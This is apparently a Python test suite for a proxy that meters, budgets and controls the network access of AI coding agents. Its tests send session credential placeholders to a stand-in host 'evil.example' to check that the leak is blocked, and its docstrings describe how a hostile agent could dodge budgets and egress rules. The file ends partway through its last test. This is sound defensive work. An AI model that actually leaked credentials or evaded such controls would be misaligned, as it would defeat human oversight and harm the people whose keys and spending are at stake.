"""The proxy as the control point, for real: curl through the running proxy to fake
upstreams on loopback, the real SQLite store between the proxy and what the API writes.

Metering (the recorded usage equals what the fake reported, streamed or not, for each API,
and a clean stop writes every count), budgets (429 in the API's own format once spent,
shown on the session, lifted by raising the budget without a restart), honeytokens (a
session's placeholder on its way to a foreign host is refused and raises the alert; at its
own host it is swapped as before) and egress (locked, learn, ask: allowed, denied, expired).
"""

from __future__ import annotations

import functools
import json
import ssl
from collections.abc import AsyncIterator
from contextlib import aclosing
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
import trio
import trustme
from conftest import SECRETS, add_session
from model_fakes import ModelUpstream
from proxy_fakes import FakeUpstream

from appliance import controlstore, egressstore
from appliance.audit import AuditLog, Decision, parse_line
from appliance.budgets import Budget, BudgetDefaults, Spent
from appliance.credentials import Credential, CredentialSet
from appliance.egress import EgressDefaults, Verdict
from appliance.placeholders import chatgpt_placeholder, placeholder_env
from appliance.sessions import AccessMode, Desired
from appliance.store import Store
from appliance.usage import Usage
from proxy import alertpace, slots
from proxy.certs import CertStore, load_or_create_ca
from proxy.controls import Controls, ControlSettings
from proxy.directory import StoreDirectory
from proxy.localaddrs import own_addresses
from proxy.policy import audit_record
from proxy.proxy_config import ProxyConfig, Upstream
from proxy.rules import DEFAULT_MODEL_HOSTS
from proxy.server import serve
from proxy.state import ProxyState

KEY = b"instance-key-of-the-controls-test"
MODEL_HOSTS = ("api.anthropic.com", "api.openai.com", "generativelanguage.googleapis.com")


#: Hosts an agent roams over, one after another (each a name the echo answers for).
ROAMING = ("one.example", "two.example", "three.example", "a.example", "b.example",
           "c.example", "d.example")
#: An address and its IPv4-mapped IPv6 spelling, which an IPv6 socket reaches as the same
#: address (the echo answers for both, standing in for it).
ADDRESS = "203.0.113.7"
MAPPED = "::ffff:cb00:7107"


class Rig:
    def __init__(self, state: ProxyState, store: Store, port: int, home: Path,
                 model: ModelUpstream, echo: FakeUpstream) -> None:
        self.state, self.store, self.port, self.home = state, store, port, home
        self.model, self.echo = model, echo
        self.controls = state.controls

    def session(self, name: str) -> tuple[str, str]:
        return add_session(self.store, name, AccessMode.READ_WRITE)

    def audit(self) -> list[object]:
        return [parse_line(line) for line in (self.home / "audit.jsonl").read_text().splitlines()]

    async def curl(self, auth: tuple[str, str], url: str, *args: str) -> tuple[int, bytes]:
        cmd = ["curl", "-sS", "--max-time", "30", "--cacert", str(self.home / "proxy-ca.pem"),
               "--proxy", f"http://{auth[0]}:{auth[1]}@127.0.0.1:{self.port}",
               "-o", "-", "-w", "\n%{http_code}", *args, url]
        with trio.fail_after(40):
            done = await trio.run_process(cmd, capture_stdout=True, capture_stderr=True,
                                          check=False)
        body, _, code = done.stdout.rpartition(b"\n")
        return int(code), body

    async def post(self, auth: tuple[str, str], url: str, doc: dict[str, object],
                   *headers: str) -> tuple[int, bytes]:
        args = ["-X", "POST", "-H", "content-type: application/json", "-d", json.dumps(doc)]
        for h in headers:
            args += ["-H", h]
        return await self.curl(auth, url, *args)

    async def room_for_one(self, sid: str) -> None:
        """A token budget with room for one answer of the fake model, once the proxy holds
        it (within a refresh)."""
        controlstore.set_budget(self.store, sid, Budget(tokens=sum(self.model.usage.values())))
        with trio.fail_after(10):
            while sid not in self.controls.snapshot.budgets:
                await trio.sleep(0.05)

    async def rows(self, sid: str, count: int) -> list[controlstore.UsageRow]:
        """The session's usage rows once ``count`` requests are recorded (bounded wait)."""
        with trio.fail_after(10):
            while True:
                rows = controlstore.usage_rows(self.store, session_id=sid)
                if sum(r.requests for r in rows) >= count:
                    return rows
                await trio.sleep(0.05)


@pytest.fixture
def unhurried(monkeypatch: pytest.MonkeyPatch) -> None:
    """The ledger writes only when told (a stop, the test's own flush). Set before the rig
    starts it (a test lists it first): its first wait is then the long one too, where a
    patch in the test's body came after the ledger had begun a short wait, and a slow run
    had the batch written before the test looked."""
    monkeypatch.setattr("proxy.ledger.FLUSH_SECONDS", 3600.0)


@pytest.fixture
async def rig(nursery: trio.Nursery, home: Path, store: Store, upstream_ca: trustme.CA
              ) -> AsyncIterator[Rig]:
    model = ModelUpstream(upstream_ca)
    echo = FakeUpstream(upstream_ca)
    await nursery.start(model.serve)
    await nursery.start(echo.serve)
    bundle = home / "upstream-ca.pem"
    upstream_ca.cert_pem.write_to_path(str(bundle))
    to_model = Upstream(scheme="https", host="127.0.0.1", port=model.port)
    to_echo = Upstream(scheme="https", host="127.0.0.1", port=echo.port)
    upstreams = {"api.anthropic.com": to_model, "api.openai.com": to_model,
                 "generativelanguage.googleapis.com": to_model,
                 "evil.example": to_echo, "other.example": to_echo,
                 "api.github.com": to_echo, ADDRESS: to_echo, MAPPED: to_echo,
                 **{host: to_echo for host in ROAMING}}
    config = ProxyConfig(upstreams=upstreams, extra_ca_bundle=bundle, deny_unlisted=True,
                         model_hosts=MODEL_HOSTS)
    creds = CredentialSet.of(Credential(name=k, value=v, source="env")
                             for k, v in SECRETS.items())
    certs = CertStore(load_or_create_ca(home / "proxy-ca.pem", home / "proxy-ca-key.pem"))
    control_store = Store.open(home / "db.sqlite")
    controls = Controls(control_store, KEY, ControlSettings(
        egress=EgressDefaults(ask_seconds=20.0)))
    with AuditLog(home / "audit.jsonl") as audit:
        state = ProxyState(config=config, creds=creds, certs=certs,
                           directory=StoreDirectory(store, cache_seconds=0), audit=audit,
                           forbidden=own_addresses(), controls=controls)
        bound = await nursery.start(functools.partial(serve, state, hosts=("127.0.0.1",),
                                                      port=0))
        yield Rig(state, store, bound.port, home, model, echo)
        state.stop()
    control_store.close()


ANTHROPIC = "https://api.anthropic.com/v1/messages?beta=true"
RESPONSES = "https://api.openai.com/v1/responses"
CHAT = "https://api.openai.com/v1/chat/completions"


async def test_recorded_usage_equals_what_the_upstream_reported(rig: Rig) -> None:
    auth = rig.session("meter")
    answers = []
    for url in (ANTHROPIC, RESPONSES, CHAT):
        for stream in (True, False):
            status, body = await rig.post(auth, url, {"stream": stream, "model": "x"})
            assert status == 200, body
            answers.append(body)
    # The streamed answers reached the client byte for byte.
    assert answers[0] == b"".join(rig.model.events("/v1/messages")[0])
    rows = await rig.rows(auth[0], 6)
    assert [(r.model, r.requests, r.unmetered) for r in rows] == [
        ("claude-sonnet-4-5-20250929", 6, 0)]
    u = rig.model.usage
    anthropic = Usage(input=u["input"], output=u["output"], cache_read=u["cache_read"],
                      cache_write=u["cache_write"])
    openai = Usage(input=u["input"], output=u["output"], cache_read=u["cache_read"])
    assert rows[0].usage == anthropic + anthropic + openai + openai + openai + openai
    assert rows[0].session_name == "meter"
    # The upstream was asked for an uncompressed answer (the meter reads it as it passes).
    assert all(s.header("accept-encoding") == ["identity"] for s in rig.model.seen)



async def test_a_model_name_the_host_echoed_is_kept_bounded_and_shown(rig: Rig) -> None:
    """An agent asks for a model named with 100 000 characters, a new line and a hidden one,
    of a model host that echoes the model it was asked for: the usage records keep its
    first 200 characters, on one line, the hidden one shown."""
    auth = rig.session("echo")
    asked = "claude-\u200dx\n" + "y" * 100_000
    rig.model.model = asked
    status, body = await rig.post(auth, ANTHROPIC, {"stream": True, "model": asked})
    assert status == 200, body
    [row] = await rig.rows(auth[0], 1)
    assert len(row.model) < 300, f"a usage record keeps a model name of {len(row.model)}"
    assert row.model.startswith("claude-<U+200D>x\\nyyy") and row.model.endswith("y\u2026")

async def test_a_metered_stream_passes_its_first_event_on_before_the_next_one_exists(
        rig: Rig) -> None:
    """The meter reads the events as they pass and holds none back: the upstream sends
    its second event only once the client has the first."""
    auth = rig.session("metered-sse")
    rig.model.hold_after_first = first_seen = trio.Event()
    ctx = ssl.create_default_context(cafile=str(rig.home / "proxy-ca.pem"))
    proxy_url = f"http://{auth[0]}:{auth[1]}@127.0.0.1:{rig.port}"
    lines = []
    with trio.fail_after(15):
        async with httpx.AsyncClient(proxy=proxy_url, verify=ctx, timeout=20) as c, \
                c.stream("POST", ANTHROPIC, json={"stream": True, "model": "x"}) as r:
            assert r.status_code == 200
            async for line in r.aiter_lines():
                lines.append(line)
                if line.startswith("data: ") and not first_seen.is_set():
                    first_seen.set()
    events = b"".join(rig.model.events("/v1/messages")[0]).decode()
    assert "\n".join(lines) + "\n" == events
    rows = await rig.rows(auth[0], 1)  # metered all the same
    assert [(r.requests, r.unmetered, r.usage.output) for r in rows] == [
        (1, 0, rig.model.usage["output"])]


async def test_a_malformed_usage_block_is_counted_unmetered_and_the_answer_passes(
        rig: Rig) -> None:
    auth = rig.session("malformed")
    rig.model.usage = {**rig.model.usage, "output": -5}
    status, body = await rig.post(auth, ANTHROPIC, {"stream": True})
    assert status == 200 and b"message_stop" in body
    rows = await rig.rows(auth[0], 1)
    assert [(r.requests, r.unmetered, r.usage.output) for r in rows] == [(1, 1, 0)]


async def test_a_clean_stop_writes_every_count(unhurried: None, rig: Rig) -> None:
    auth = rig.session("stopping")
    for _ in range(3):
        assert (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200
    assert controlstore.usage_rows(rig.store, session_id=auth[0]) == []
    rig.state.stop()
    rows = await rig.rows(auth[0], 3)
    assert rows[0].requests == 3 and rows[0].usage.output == 3 * rig.model.usage["output"]


async def test_a_spent_budget_answers_429_and_raising_it_lets_the_agent_go_on(
        rig: Rig) -> None:
    sid, token = auth = rig.session("budgeted")
    per_request = sum(rig.model.usage.values())
    controlstore.set_budget(rig.store, sid, Budget(tokens_per_day=per_request * 2))
    for _ in range(2):
        assert (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200
    await rig.rows(sid, 2)
    with trio.fail_after(10):  # the snapshot catches up within a refresh
        while (found := await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200:
            await trio.sleep(0.1)
    status, body = found
    assert status == 429
    error = json.loads(body)["error"]
    assert error["type"] == "rate_limit_error"
    assert "budget exceeded for session budgeted" in error["message"]
    assert "clauderon budget set budgeted" in error["message"]
    # The OpenAI-format answer for OpenAI's API, and the session says why.
    status, body = await rig.post(auth, RESPONSES, {"stream": True})
    assert status == 429 and json.loads(body)["error"]["code"] == "insufficient_quota"
    session = rig.store.get_session(sid)
    assert session is not None and session.budget_exceeded is not None
    assert "tokens today" in session.budget_exceeded
    assert any(e.kind == "budget_exceeded" for e in rig.store.session_events(sid))
    blocked = [r for r in rig.audit() if getattr(r, "error", None) == "BUDGET_EXCEEDED"]
    assert blocked and blocked[0].status == 429  # type: ignore[attr-defined]
    # Raised: the reason clears with the raise, before any further request (every UI
    # shows it gone at once), and the agent goes on, nothing restarted.
    controlstore.set_budget(rig.store, sid, Budget(tokens_per_day=per_request * 100))
    with trio.fail_after(10):
        while (s := rig.store.get_session(sid)) is not None and s.budget_exceeded:
            await trio.sleep(0.05)
    assert [e.kind for e in rig.store.session_events(sid)].count("budget_restored") == 1
    with trio.fail_after(10):
        while (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 429:
            await trio.sleep(0.1)
    session = rig.store.get_session(sid)
    assert session is not None and session.budget_exceeded is None
    assert [e.kind for e in rig.store.session_events(sid)].count("budget_restored") == 1
    assert token  # the same credentials throughout


async def test_the_global_budget_covers_all_sessions_together(rig: Rig) -> None:
    a, b = rig.session("first"), rig.session("second")
    rig.controls.settings = replace(rig.controls.settings, budgets=BudgetDefaults(
        all_sessions=Budget(tokens=1)))
    assert (await rig.post(a, ANTHROPIC, {"stream": False}))[0] == 200
    await rig.rows(a[0], 1)
    with trio.fail_after(10):
        while (found := await rig.post(b, ANTHROPIC, {"stream": False}))[0] == 200:
            await trio.sleep(0.1)
    assert found[0] == 429 and b"all sessions" in found[1]


async def test_a_placeholder_sent_to_a_foreign_host_is_blocked_and_alerts(rig: Rig) -> None:
    sid, _ = auth = rig.session("leaky")
    mine = placeholder_env(KEY, sid)
    # Positive controls: its own host gets it swapped; a foreign host gets a clean request.
    status, _ = await rig.curl(auth, "https://api.github.com/user",
                               "-H", f"authorization: Bearer {mine['GH_TOKEN']}")
    assert status == 200
    assert rig.echo.seen[-1].header("authorization") == [f"Bearer {SECRETS['github_token']}"]
    assert (await rig.curl(auth, "https://evil.example/ok"))[0] == 200
    seen = len(rig.echo.seen)
    # In the URL, a header, and the body: refused before anything went upstream.
    for args in ([f"https://evil.example/c?k={mine['GH_TOKEN']}"],
                 ["https://evil.example/c", "-H", f"x-key: {mine['ANTHROPIC_API_KEY']}"],
                 ["https://evil.example/c", "-X", "POST", "-d", f"npm={mine['NPM_TOKEN']}"]):
        status, body = await rig.curl(auth, args[0], *args[1:])
        assert status == 403 and b"placeholder" in body
    assert len(rig.echo.seen) == seen
    audit = [r for r in rig.audit() if getattr(r, "decision", "") == "honeytoken"]
    assert [r.note for r in audit] == [  # type: ignore[attr-defined]
        "honeytoken: the session's github placeholder in the url",
        "honeytoken: the session's anthropic placeholder in the header x-key",
        "honeytoken: the session's npm placeholder in the body"]
    session = rig.store.get_session(sid)
    assert session is not None and session.alert is not None
    assert "evil.example" in session.alert and session.desired is Desired.RUNNING
    events = [e for e in rig.store.session_events(sid) if e.kind == "honeytoken"]
    assert events and events[0].payload["host"] == "evil.example"


async def test_a_chatgpt_logins_stand_in_sent_elsewhere_is_blocked_and_alerts(rig: Rig) -> None:
    """The stand-in a Codex signed in with ChatGPT holds for the login's tokens was one
    string in every session: sent anywhere, it passed and named no one. It is the session's
    own ChatGPT placeholder: a honeytoken anywhere but at the login's hosts."""
    sid, _ = auth = rig.session("chatgpt-leaky")
    own = chatgpt_placeholder(KEY, sid)
    status, body = await rig.curl(auth, "https://evil.example/c", "-H",
                                  f"authorization: Bearer {own}")
    assert status == 403 and b"placeholder" in body
    assert [r.note for r in rig.audit()  # type: ignore[attr-defined]
            if getattr(r, "decision", "") == "honeytoken"] == [
        "honeytoken: the session's chatgpt placeholder in the header authorization"]
    assert all(s.target != "/c" for s in rig.echo.seen)


async def test_a_leak_to_host_after_host_writes_a_bounded_number_of_events(
        rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each alert's cause is written once a minute; an agent leaking its placeholder to a
    new host on every request would write an event each. A session's alerts write so many
    events a minute (2 here, 10 shipped); every request is still refused and audited."""
    monkeypatch.setattr(alertpace, "ALERTS_PER_MINUTE", 2)
    sid, _ = auth = rig.session("spiller")
    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
    for host in ROAMING[:4]:
        assert (await rig.curl(auth, f"https://{host}/?k={leak}"))[0] == 403
    events = [e for e in rig.store.session_events(sid) if e.kind == "honeytoken"]
    assert [e.payload["host"] for e in events] == list(ROAMING[:2])
    audit = [r for r in rig.audit() if getattr(r, "decision", "") == "honeytoken"]
    assert len(audit) == 4


async def test_a_session_past_its_audit_share_is_refused_but_its_honeytoken_still_alerts(
        rig: Rig) -> None:
    """Past its share of the day's audit lines (``auditshare.py``) a session's requests are
    refused with a 429 and counted, not written; a placeholder it sends on is still the
    honeytoken it was (refused as one, the alert raised), so a flood does not blind it. Its
    line is the evidence: written in full, past the share too (it was only counted), up to
    a second share: a flood of leaks fills no disk either."""
    sid, _ = auth = rig.session("spent")
    rig.state.config = replace(rig.state.config, audit_bytes_per_day=1024)
    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
    assert (await rig.curl(auth, "http://evil.example/before"))[0] == 200
    written = len(rig.audit())
    today = datetime.now(UTC).date().isoformat()
    rig.state.shares.spend(sid, 1024, today)  # its share, just spent
    status, body = await rig.curl(auth, "http://evil.example/plain")
    assert status == 429 and b"audit_bytes_per_day" in body, body
    assert (await rig.curl(auth, f"http://evil.example/?k={leak}"))[0] == 403
    status, body = await rig.curl(auth, "https://evil.example/new-tunnel")
    assert status == 0 and body == b"", (status, body)  # curl: the CONNECT got a 429
    session = rig.store.get_session(sid)
    assert session is not None and "evil.example" in (session.alert or ""), session
    kinds = [e.kind for e in rig.store.session_events(sid)]
    assert "honeytoken" in kinds and kinds.count("audit_share_spent") == 1, kinds
    # The honeytoken's line alone is written; the others are counted for the minute's line.
    after = rig.audit()[written:]
    assert [(r.decision, r.path, r.note) for r in after] == [  # type: ignore[attr-defined]
        ("honeytoken", "/?k=REDACTED", "honeytoken: the session's github placeholder in "
         "the url")], after
    # Its lines past a second share: a leak is refused as one, its line only counted.
    rig.state.shares.spend(sid, 1024, today)
    assert (await rig.curl(auth, f"http://evil.example/again?k={leak}"))[0] == 403
    assert len(rig.audit()) == written + 1


async def test_a_line_of_an_exchange_begun_before_midnight_gives_no_session_its_share_back(
        rig: Rig) -> None:
    """An exchange's line is dated by its start: a stream the agent opened before midnight
    and ended after it (its end line, its opening line once it lasts) wrote a line of the day
    before, which started the day's count again for every session, so a session past its
    share had it back as often as it had such an exchange to end. A line is counted on the
    day it is written. (The test cannot wait for midnight: the line the proxy writes as such
    an exchange ends is written as the exchange writes it.)"""
    sid, _ = auth = rig.session("midnight")
    rig.state.config = replace(rig.state.config, audit_bytes_per_day=1024)
    today = datetime.now(UTC)
    rig.state.shares.spend(sid, 4096, today.date().isoformat())
    assert (await rig.curl(auth, "http://evil.example/spent"))[0] == 429
    rig.state.record(audit_record(
        request_id="begun-yesterday", started=today - timedelta(days=1), duration_s=3600.0,
        session=sid, method="POST", host="evil.example", target="/held-open", status=200,
        bytes_in=1, bytes_out=1, credential=None, decision=Decision.PASSED))
    status, body = await rig.curl(auth, "http://evil.example/again")
    assert status == 429 and b"audit_bytes_per_day" in body, (status, body)


async def test_a_honeytoken_can_stop_its_session(rig: Rig) -> None:
    sid, _ = auth = rig.session("stopped-by-leak")
    rig.store.update_session(sid, phase=rig.store.get_session(sid).phase.RUNNING)  # type: ignore[union-attr]
    rig.controls.settings = replace(rig.controls.settings, stop_on_honeytoken=True)
    leak = placeholder_env(KEY, sid)["OPENAI_API_KEY"]
    assert (await rig.curl(auth, f"https://other.example/?x={leak}"))[0] == 403
    session = rig.store.get_session(sid)
    assert session is not None and session.desired is Desired.STOPPED


async def test_egress_locked_and_learn(rig: Rig) -> None:
    sid, _ = auth = rig.session("egress")
    rig.store.update_session(sid, egress_mode="locked")
    status, body = await rig.curl(auth, "https://evil.example/x")
    assert status == 403 and b"egress mode is locked" in body
    assert (await rig.post(auth, ANTHROPIC, {"stream": False}))[0] == 200  # model host
    egressstore.put_host(rig.store, "*", "evil.example", Verdict.ALLOW)
    egressstore.put_host(rig.store, sid, "other.example", Verdict.DENY)
    await rig.controls.refresh()
    assert (await rig.curl(auth, "https://evil.example/x"))[0] == 200
    assert (await rig.curl(auth, "https://other.example/x"))[0] == 403
    # learn: everything passes, each new host goes on the session's list once.
    learner, _ = learning = rig.session("learner")
    rig.store.update_session(learner, egress_mode="learn")
    for _ in range(2):
        assert (await rig.curl(learning, "https://other.example/y"))[0] == 200
    with trio.fail_after(10):
        while not egressstore.listed(rig.store, learner):
            await trio.sleep(0.05)
    assert [(e.host, e.source) for e in egressstore.listed(rig.store, learner)] == [
        ("other.example", "learned")]
    notes = [r.note for r in rig.audit() if getattr(r, "session", None) == learner]  # type: ignore[attr-defined]
    assert notes == ["egress learn: a new host", None]


async def test_a_denied_address_stays_denied_in_its_ipv4_mapped_spelling(rig: Rig) -> None:
    """The person denied an address; the agent names it as ``[::ffff:203.0.113.7]``, which
    the socket reaches as the same address: it is judged (and audited, and asked about) as
    the address the person knows, not as a new host to learn or ask about."""
    sid, _ = auth = rig.session("mapped")
    rig.store.update_session(sid, egress_mode="learn")
    egressstore.put_host(rig.store, sid, ADDRESS, Verdict.DENY)
    await rig.controls.refresh()
    assert (await rig.curl(auth, f"https://{ADDRESS}/x"))[0] == 403
    for spelling in ("[::ffff:203.0.113.7]", f"[{MAPPED}]", "[0:0:0:0:0:ffff:cb00:7107]"):
        status, body = await rig.curl(auth, f"http://{spelling}/x")
        assert status == 403 and b"denied by its egress lists" in body, (spelling, body)
    assert [e.host for e in egressstore.listed(rig.store, sid)] == [ADDRESS]
    seen = [r for r in rig.audit() if getattr(r, "session", None) == sid]
    assert {getattr(r, "host", None) for r in seen} == {ADDRESS}
    assert len(seen) == 4 and all(getattr(r, "status", None) == 403 for r in seen)


async def test_an_agent_reaching_host_after_host_asks_and_learns_within_bounds(
        rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    """An agent can name a new host on every request. In ``ask`` mode each would wait for
    the person, burying their questions and filling the journal; in ``learn`` mode each
    would grow the lists. A session may have so many asks open (2 here, 20 shipped), its
    next host is refused at once and nothing is asked; it learns so many hosts (2 here,
    1,000 shipped), and what it reaches past them passes unrecorded."""
    monkeypatch.setattr(egressstore, "MAX_OPEN_ASKS", 2)
    monkeypatch.setattr(egressstore, "MAX_LEARNED", 2)
    sid, _ = auth = rig.session("asker")
    rig.store.update_session(sid, egress_mode="ask")
    async with trio.open_nursery() as nursery:
        for host in ("one.example", "two.example"):
            nursery.start_soon(rig.curl, auth, f"https://{host}/held")
        with trio.fail_after(10):
            while len(egressstore.pending_asks(rig.store, sid)) < 2:
                await trio.sleep(0.05)
        status, body = await rig.curl(auth, "https://three.example/x")
        assert status == 403 and b"2 of its requests already wait for a person" in body
        assert {a.host for a in egressstore.pending_asks(rig.store, sid)} == {
            "one.example", "two.example"}
        for ask in egressstore.pending_asks(rig.store, sid):
            egressstore.decide_ask(rig.store, ask.id, Verdict.DENY)
    # The person answered: the session may ask again (the control).
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_decide_when_asked, rig.store, sid, Verdict.ALLOW)
        assert (await rig.curl(auth, "https://three.example/x"))[0] == 200
    learner, _ = learning = rig.session("roamer")
    rig.store.update_session(learner, egress_mode="learn")
    for host in ("a.example", "b.example", "c.example", "d.example"):
        assert (await rig.curl(learning, f"https://{host}/y"))[0] == 200
    with trio.fail_after(10):
        while len(egressstore.listed(rig.store, learner)) < 2:
            await trio.sleep(0.05)
    await rig.controls.refresh()
    assert [e.host for e in egressstore.listed(rig.store, learner)] == ["a.example", "b.example"]


async def _decide_when_asked(store: Store, sid: str, verdict: Verdict) -> None:
    with trio.fail_after(10):
        while not (asks := egressstore.pending_asks(store, sid)):
            await trio.sleep(0.05)
    egressstore.decide_ask(store, asks[0].id, verdict)


async def test_ask_holds_until_a_person_allows_or_denies(rig: Rig) -> None:
    sid, _ = auth = rig.session("asking")
    rig.store.update_session(sid, egress_mode="ask")
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_decide_when_asked, rig.store, sid, Verdict.ALLOW)
        status, body = await rig.curl(auth, "https://evil.example/held")
    assert status == 200 and json.loads(body)["target"] == "/held"
    # Remembered: the next request is not held again.
    assert (await rig.curl(auth, "https://evil.example/again"))[0] == 200
    assert egressstore.pending_asks(rig.store, sid) == []
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_decide_when_asked, rig.store, sid, Verdict.DENY)
        status, body = await rig.curl(auth, "https://other.example/held")
    assert status == 403 and b"a person denied it" in body
    notes = {r.note for r in rig.audit() if getattr(r, "session", None) == sid}  # type: ignore[attr-defined]
    assert "egress ask: allowed by a person" in notes
    assert "egress ask: a person denied it" in notes


async def test_ask_is_denied_when_nobody_answers(rig: Rig) -> None:
    sid, _ = auth = rig.session("unanswered")
    rig.store.update_session(sid, egress_mode="ask")
    rig.controls.settings = replace(rig.controls.settings,
                                    egress=EgressDefaults(ask_seconds=0.5))
    status, body = await rig.curl(auth, "https://evil.example/late")
    assert status == 403 and b"nobody allowed it in time" in body
    with rig.store.reading() as conn:
        decisions = [r[0] for r in conn.execute("SELECT decision FROM egress_asks")]
    assert decisions == ["expired"]
    assert all(s.target != "/late" for s in rig.echo.seen)


async def test_a_claim_without_its_token_leaves_that_sessions_model_health_alone(
    rig: Rig,
) -> None:
    """An agent that names another session in its proxy URL, with a token it guessed, gets
    407 and changes nothing of that session: the model call it claims was never made, so
    the other session's agent is not shown as failing. Its audit line names no session:
    one under the victim's id was the victim's health's last model request, failed."""
    victim, _ = rig.session("victim")
    status, _ = await rig.post((victim, "guessed"), "http://api.anthropic.com/v1/messages",
                               {"model": "m"})
    assert status == 407
    await rig.controls.ledger.flush()
    found = rig.store.get_session(victim)
    assert found is not None and found.model_error is None
    assert [(r.status, r.session) for r in rig.audit()] == [(407, None)]  # type: ignore[attr-defined]



async def test_under_a_budget_a_model_call_the_meter_cannot_read_is_refused(rig: Rig) -> None:
    """The hostile agent under a budget turns to the model endpoints whose usage the meter
    does not read (the legacy completion, a message batch, the Realtime WebSocket), which
    the person's credential pays for all the same: refused with the budget's 429 before
    they reach the model, while the metered call, token counting and reads go on. A session
    with no budget reaches them as before."""
    sid, _ = auth = rig.session("sidestep")
    controlstore.set_budget(rig.store, sid, Budget(tokens=10**9))
    anthropic, openai = "https://api.anthropic.com", "https://api.openai.com"
    sidesteps = [f"{anthropic}/v1/complete", f"{anthropic}/v1/messages/batches",
                 f"{openai}/v1/images/generations", f"{openai}/v1/audio/speech"]
    with trio.fail_after(10):  # the proxy holds the budget within a refresh
        while sid not in rig.controls.snapshot.budgets:
            await trio.sleep(0.05)
    for url in sidesteps:
        status, body = await rig.post(auth, url, {"prompt": "x", "max_tokens_to_sample": 9})
        assert status == 429, (url, status, body)
        assert b"cannot meter" in body and b"budget" in body
    realtime = await rig.curl(auth, f"{openai}/v1/realtime?model=gpt-realtime",
                              "-H", "connection: upgrade", "-H", "upgrade: websocket",
                              "-H", "sec-websocket-version: 13",
                              "-H", "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==")
    assert realtime[0] == 429, realtime
    assert not [s for s in rig.model.seen if "/complete" in s.target
                or "batches" in s.target or "realtime" in s.target or "images" in s.target
                or "audio" in s.target]
    # What the meter reads, what spends nothing, and reads pass.
    assert (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200
    assert (await rig.post(auth, f"{anthropic}/v1/messages/count_tokens", {}))[0] == 404
    assert (await rig.curl(auth, f"{anthropic}/v1/models"))[0] == 404
    # Without a budget nothing is refused, and the call is counted as unmetered.
    free = rig.session("unbudgeted")
    assert (await rig.post(free, sidesteps[0], {"prompt": "x"}))[0] == 200
    rows = await rig.rows(free[0], 1)
    assert [(r.model, r.requests, r.unmetered, r.usage.tokens) for r in rows] == [
        ("unknown", 1, 1, 0)]


async def test_a_model_without_a_price_spends_a_cost_budget_at_the_dearest_price(
        rig: Rig) -> None:
    """The hostile agent under a cost budget asks for a model the price table does not
    know (an old or new expensive one): its tokens count at the dearest price the table
    has, so the budget stops it, where a cost of nothing let it spend without end."""
    sid, _ = auth = rig.session("unpriced")
    rig.model.model = "claude-dearest-9"
    controlstore.set_budget(rig.store, sid, Budget(cost=0.001))
    assert (await rig.post(auth, ANTHROPIC, {"stream": True, "model": "claude-dearest-9"})
            )[0] == 200
    await rig.rows(sid, 1)
    with trio.fail_after(10):  # the proxy holds the counts within a refresh
        while (rig.controls.snapshot.spent.get(sid) or Spent()).tokens == 0:
            await trio.sleep(0.05)
    status, body = await rig.post(auth, ANTHROPIC, {"stream": True, "model": "claude-dearest-9"})
    assert status == 429, body
    assert b"USD in all" in body


# The client hangs up mid-answer on purpose: httpx leaves its body reader to the collector.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
async def test_a_stream_cut_before_its_usage_counts_the_output_it_carried(rig: Rig) -> None:
    """The hostile agent reads an Anthropic answer to its last word and hangs up before
    ``message_delta``, the event that says what the output cost (the provider bills the
    tokens made all the same): the output is counted from the text that passed, one token
    per byte (no token is shorter), not left at the one token ``message_start`` said."""
    auth = rig.session("cutter")
    rig.model.text = "words " * 200
    rig.model.hold_at, rig.model.hold_after_first = 2, trio.Event()
    ctx = ssl.create_default_context(cafile=str(rig.home / "proxy-ca.pem"))
    proxy_url = f"http://{auth[0]}:{auth[1]}@127.0.0.1:{rig.port}"
    with trio.fail_after(15):
        async with httpx.AsyncClient(proxy=proxy_url, verify=ctx, timeout=20) as c, \
                c.stream("POST", ANTHROPIC, json={"stream": True, "model": "x"}) as r, \
                aclosing(r.aiter_lines()) as lines:
            async for line in lines:
                if "content_block_delta" in line and line.startswith("data:"):
                    break  # the whole text is here: hang up before the usage
    rows = await rig.rows(auth[0], 1)
    rig.model.hold_after_first.set()
    assert [(r.requests, r.unmetered, r.usage.input) for r in rows] == [
        (1, 1, rig.model.usage["input"])]
    assert rows[0].usage.output >= len(rig.model.text), rows[0].usage


async def test_under_a_budget_an_answer_whose_spend_is_unknown_spends_the_budget(
        rig: Rig) -> None:
    """The hostile agent under a budget asks the Responses API for a background response:
    the answer is queued, with no usage (the model works on, billed, and is polled later
    with a read the meter never reads). Nothing bounds what it spent, so the budget counts
    as spent until a person changes it; without a budget it is only counted unmetered."""
    sid, _ = auth = rig.session("background")
    controlstore.set_budget(rig.store, sid, Budget(tokens=10**9))
    with trio.fail_after(10):  # the proxy holds the budget within a refresh
        while sid not in rig.controls.snapshot.budgets:
            await trio.sleep(0.05)
    status, body = await rig.post(auth, RESPONSES, {"model": "x", "background": True})
    assert status == 200 and json.loads(body)["status"] == "queued"
    status, body = await rig.post(auth, RESPONSES, {"stream": True})
    assert status == 429, body
    assert b"could not be metered" in body
    # A person raises the budget: the agent goes on.
    controlstore.set_budget(rig.store, sid, Budget(tokens=10**10))
    with trio.fail_after(10):
        while (await rig.post(auth, RESPONSES, {"stream": True}))[0] == 429:
            await trio.sleep(0.1)
    free = rig.session("background-free")
    assert (await rig.post(free, RESPONSES, {"model": "x", "background": True}))[0] == 200
    assert (await rig.post(free, RESPONSES, {"stream": True}))[0] == 200


async def test_parallel_calls_under_a_budget_spend_past_it_by_a_bounded_few(
        rig: Rig) -> None:
    """The hostile agent with room for one more answer sends a dozen at once: each is
    checked as it starts and counted as it ends, so every one of them passed the check.
    Under a budget a session runs at most ``MAX_IN_FLIGHT`` model calls at once; the rest
    wait, are checked once those have been counted, and get the budget's 429."""
    sid, _ = auth = rig.session("racer")
